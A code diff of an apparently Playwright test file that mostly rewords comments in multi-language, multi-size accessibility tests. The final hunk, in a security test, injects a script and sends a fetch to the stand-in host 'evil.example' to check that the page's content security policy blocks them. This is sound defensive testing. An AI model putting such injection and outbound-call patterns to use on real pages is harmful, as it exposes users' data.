@@ -14,19 +14,19 @@ import { translateInto } from './messages';
 import { shortRunOf } from './short-run';
 
 const zoomedSize = { width: 640, height: 400 };
-/** In which the keyboard focus is followed too. */
+/** The smallest window, in which the tests also follow the keyboard focus. */
 const smallest: Look = { name: '400 % zoom', size: { width: 320, height: 256 }, colorScheme: 'light' };
 
-/** Zoomed in, a desktop window has fewer CSS pixels: half as many at 200 %. */
+/** A zoomed desktop window has fewer CSS pixels: half as many at 200 %. */
 const sizes = [
-  // The narrowest and the widest in every language, because text that fits there fits between them.
+  // The narrowest and the widest window run in every language: text that fits in both also fits in the sizes between.
   { name: 'desktop', size: desktopSize, isInEveryLanguage: true },
   { name: '320 pixels', size: narrowSize, isInEveryLanguage: true },
   { name: '200 % zoom', size: zoomedSize },
   { name: 'phone', size: phoneSize },
 ];
 
-/** Each size in both colours and each language in both, though not every three together. */
+/** Covers each size in both themes and each language in both themes, but not every combination of the three. */
 function looksOf(market: Market, language: string): Look[] {
   const isDefault = language === market.defaultLanguage;
   const own = sizes.filter(({ isInEveryLanguage }) => isDefault || isInEveryLanguage);
@@ -43,13 +43,13 @@ const parts = [
   { part: 'before sign-in', screens: screensOfNewcomers },
 ];
 
-/** The short run has the last of them, in its first look. */
+/** The short run covers the last of them only, in its first look. */
 const walks = [
   ...belgium.languages.map(language => ({ market: belgium, language })),
   ...luxembourg.languages.toReversed().map(language => ({ market: luxembourg, language })),
 ].flatMap(each => parts.map(part => ({ ...each, ...part })));
 
-/** A call that a screen has cut off on purpose; the browser may tell it some screens later. */
+/** The console error of a call that a screen aborts on purpose. The browser may report it some screens later. */
 const cutOff = 'Failed to load resource: net::ERR_FAILED';
 
 const shortRun = shortRunOf('accessibility');
@@ -71,13 +71,13 @@ for (const { market, language, part, screens: some } of shortRun.last(walks)) {
       test.setTimeout(900_000);
       const faults = watchFaults(page, market.domain);
       let wasTrouble = false;
-      /** The complaints before the last trouble. */
+      /** The number of console errors before the last screen with expected errors. */
       let expected = 0;
       await page.goto(portal(market, '/login/email'));
       for (const { name, show, isBare, isMain, isTrouble = false } of screensOf(market, some)) {
         await test.step(name, async () => {
           await show(page, market, translateInto(language));
-          // Some of it is told a moment later.
+          // The browser reports some of the expected errors only after that screen.
           if (wasTrouble) faults.complaints.length = expected;
           wasTrouble = isTrouble;
           for (const look of looks) {
@@ -86,7 +86,7 @@ for (const { market, language, part, screens: some } of shortRun.last(walks)) {
             expect.soft(await findClippedText(page), `${where}, clipped text`).toEqual([]);
             if (isBare) continue;
             expect.soft(await accessibilityFaults(page), where).toEqual([]);
-            // It is slower than axe, so each screen has it in one look of each market, and the short run on the main screens.
+            // This engine is slower than axe. It checks each screen in one look per market, and in the short run only main screens.
             const hasSecondEngine = look === shown && language === market.defaultLanguage;
             if (hasSecondEngine && (isLongRun || isMain))
               expect.soft(await equalAccessFaults(page), `${where}, second engine`).toEqual([]);
@@ -122,7 +122,7 @@ test('A script put into the page does not run, and nothing can be sent elsewhere
     try {
       script.textContent = 'document.title = "taken over"';
     } catch {
-      // Text alone is no script here: the policy asks for trusted types.
+      // The policy requires trusted types, so a plain string is refused as a script.
     }
     document.body.append(script);
     void fetch('https://evil.example/').catch(() => undefined);
